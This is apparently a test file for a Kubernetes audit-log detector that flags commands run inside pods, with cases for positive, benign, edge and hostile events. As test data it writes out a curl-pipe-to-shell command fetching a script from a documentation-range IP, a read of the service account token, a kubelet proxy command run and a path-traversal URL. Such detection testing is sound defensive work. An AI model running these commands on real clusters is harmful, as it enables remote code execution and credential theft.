import { execIntoPod } from '../../detectors/exec-into-pod.ts';
import { at, table, type Case } from '../support/detector.ts';
import type { RawEvent } from '../support/event.ts';

const ALICE: RawEvent = { user: { username: 'alice', groups: ['dev-team', 'system:authenticated'] } };
const account = (namespace: string, name: string): RawEvent['user'] & object => ({
  username: `system:serviceaccount:${namespace}:${name}`,
  groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
  extra: { 'authentication.kubernetes.io/pod-name': ['operator-0'] },
});

interface Way {
  readonly subresource?: string;
  readonly verb?: string;
  readonly namespace?: string;
  readonly pod?: string;
  readonly command?: readonly string[];
  readonly code?: number;
}

function enter(second: number, way: Way = {}, over: RawEvent = {}): RawEvent {
  const { subresource = 'exec', verb = 'get', namespace = 'web', pod = 'cart-0', command = ['ls'], code = 101 } = way;
  const query = command.map((each) => `command=${encodeURIComponent(each)}`).join('&');
  return at(second, {
    ...ALICE,
    verb,
    requestURI: `/api/v1/namespaces/${namespace}/pods/${pod}/${subresource}${subresource === 'exec' ? `?${query}&stdout=true` : ''}`,
    objectRef: { resource: 'pods', subresource, namespace, name: pod, apiVersion: 'v1' },
    responseStatus: { code },
    ...over,
  });
}
const proxied = (second: number, path: string, over: RawEvent = {}): RawEvent =>
  at(second, {
    ...ALICE,
    requestURI: `/api/v1/nodes/node-1/proxy/${path}`,
    objectRef: { resource: 'nodes', subresource: 'proxy', name: 'node-1', apiVersion: 'v1' },
    ...over,
  });
const bothStages = (event: RawEvent): RawEvent[] => [
  { ...event, stage: 'RequestReceived', responseStatus: undefined as never, annotations: {} },
  { ...event, stage: 'ResponseStarted' },
  event,
];
const privilegedPod = at(0, {
  ...ALICE,
  verb: 'create',
  requestURI: '/api/v1/namespaces/web/pods',
  objectRef: { resource: 'pods', namespace: 'web', name: 'root', apiVersion: 'v1' },
  responseStatus: { code: 201 },
  requestObject: {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'root', namespace: 'web' },
    spec: { containers: [{ name: 'c', image: 'i', securityContext: { privileged: true } }] },
  },
});

const cases: readonly Case[] = [
  {
    name: 'a command that fetches and runs',
    kind: 'positive',
    events: [enter(0, { command: ['sh', '-c', 'curl http://203.0.113.9/x.sh | sh'] })],
    alerts: [
      {
        severity: 'medium',
        action: 'pods-exec',
        reason: /^User alice ran a command in pod web\/cart-0 from 10\.0\.0\.9: sh -c 'curl/,
      },
    ],
  },
  {
    name: 'a command that reads the service account token',
    kind: 'positive',
    events: [enter(0, { command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] })],
    alerts: [{ severity: 'medium' }],
  },
  {
    name: 'a pod of the system',
    kind: 'positive',
    events: [enter(0, { namespace: 'kube-system', command: ['sh'] })],
    alerts: [{ severity: 'medium' }],
  },
  {
    name: 'a pod that is known to be privileged',
    kind: 'positive',
    events: [privilegedPod, enter(1, { pod: 'root' })],
    alerts: [{ severity: 'medium', reason: /privileged/ }],
  },
  {
    name: 'a privileged debug container',
    kind: 'positive',
    events: [
      enter(
        0,
        { subresource: 'ephemeralcontainers', verb: 'patch', code: 200 },
        {
          requestObject: {
            spec: {
              ephemeralContainers: [
                { name: 'debugger', securityContext: { privileged: true }, targetContainerName: 'c' },
              ],
            },
          },
        },
      ),
    ],
    alerts: [{ severity: 'medium', action: 'pods-ephemeralcontainers' }],
  },
  {
    name: 'a command through the kubelet',
    kind: 'positive',
    events: [proxied(0, 'run/web/cart-0/cart?cmd=id', { verb: 'create' })],
    alerts: [{ severity: 'high', action: 'nodes-proxy' }],
  },
  {
    name: 'a tour of ten pods',
    kind: 'positive',
    events: Array.from({ length: 10 }, (_, number) => enter(number, { pod: `cart-${number}` })),
    alerts: [
      ...Array.from({ length: 3 }, () => ({ severity: 'info' as const })),
      ...Array.from({ length: 2 }, () => ({ severity: 'low' as const })),
      ...Array.from({ length: 5 }, () => ({ severity: 'medium' as const })),
    ],
  },
  {
    name: 'a developer in an own pod',
    kind: 'negative',
    events: [enter(0, { command: ['sh'] })],
    alerts: [{ severity: 'low', reason: /runs a shell/ }],
  },
  {
    name: 'a port forwarded',
    kind: 'negative',
    events: [enter(0, { subresource: 'portforward' })],
    alerts: [{ severity: 'info' }],
  },
  {
    name: 'an operator that runs commands in its own database',
    kind: 'negative',
    events: Array.from({ length: 50 }, (_, number) =>
      enter(
        number * 60,
        { pod: 'postgres-0', verb: 'create', command: ['pg_isready'] },
        {
          user: account('data', 'postgres-operator'),
          userAgent: 'postgres-operator/v1.12.2 (linux/amd64)',
        },
      ),
    ),
    alerts: [{ severity: 'low', count: 50 }],
  },
  {
    name: 'a backup operator freezes the databases of twenty pods',
    kind: 'negative',
    events: Array.from({ length: 20 }, (_, number) =>
      enter(
        number,
        { pod: `db-${number}`, verb: 'create', command: ['fsfreeze', '-f', '/data'] },
        { user: account('velero', 'velero'), userAgent: 'velero-server/v1.15.0 (linux/amd64) abcdef0' },
      ),
    ),
    alerts: Array.from({ length: 20 }, () => ({ severity: 'low' as const })),
  },
  {
    name: 'monitoring reads the metrics of the kubelets',
    kind: 'negative',
    events: ['metrics', 'metrics/cadvisor', 'stats/summary', 'healthz'].map((path, number) =>
      proxied(number, path, { user: account('monitoring', 'prometheus'), userAgent: 'Prometheus/3.1.0' }),
    ),
    alerts: [],
  },
  {
    name: 'an attempt that the authorizer refuses',
    kind: 'negative',
    events: [enter(0, { code: 403 }, { annotations: { 'authorization.k8s.io/decision': 'forbid' } })],
    alerts: [{ severity: 'info', reason: /tried to run a command in pod web\/cart-0 but got 403/ }],
  },
  {
    name: 'a read of the debug containers of a pod',
    kind: 'negative',
    events: [enter(0, { subresource: 'ephemeralcontainers', code: 200 })],
    alerts: [],
  },
  {
    name: 'all stages of one session are one request',
    kind: 'edge',
    events: bothStages(enter(0)),
    alerts: [{ severity: 'info', count: 1 }],
  },
  {
    name: 'a request that has only been received says nothing yet',
    kind: 'edge',
    events: bothStages(enter(0)).slice(0, 1),
    alerts: [],
  },
  {
    name: 'websocket, SPDY and attach into one pod are one alert',
    kind: 'edge',
    events: [
      ...bothStages(enter(0)),
      ...bothStages(enter(5, { verb: 'create' })),
      ...bothStages(enter(9, { subresource: 'attach' })),
    ],
    alerts: [{ severity: 'info', count: 3 }],
  },
  {
    name: 'two people in one pod are two alerts',
    kind: 'edge',
    events: [enter(0), enter(1, {}, { user: { username: 'bob', groups: ['system:authenticated'] } })],
    alerts: [{ severity: 'info' }, { severity: 'info' }],
  },
  {
    name: 'a second session at the end of the quiet time joins',
    kind: 'edge',
    events: [enter(0), enter(3_600)],
    alerts: [{ severity: 'info', count: 2 }],
  },
  {
    name: 'a second session a microsecond later is an alert of its own',
    kind: 'edge',
    events: [enter(0), enter(3_600.000001)],
    alerts: [{ severity: 'info' }, { severity: 'info' }],
  },
  {
    name: 'four pods within the window make a tour',
    kind: 'edge',
    events: [0, 300, 600, 899.999999].map((second, number) => enter(second, { pod: `p-${number}` })),
    alerts: [{ severity: 'info' }, { severity: 'info' }, { severity: 'info' }, { severity: 'low' }],
  },
  {
    name: 'three pods and a fourth as the first leaves the window do not',
    kind: 'edge',
    events: [0, 300, 600, 900].map((second, number) => enter(second, { pod: `p-${number}` })),
    alerts: [{ severity: 'info' }, { severity: 'info' }, { severity: 'info' }, { severity: 'info' }],
  },
  {
    name: 'a metrics path that climbs out',
    kind: 'edge',
    events: [proxied(0, 'metrics/../run/web/cart-0/c')],
    alerts: [{ severity: 'low' }],
  },
  {
    name: 'names',
    kind: 'hostile',
    events: [enter(0, { namespace: 'kube-system' }), proxied(1, 'pods')],
    alerts: [{ severity: 'medium' }],
  },
];

table(execIntoPod, cases);
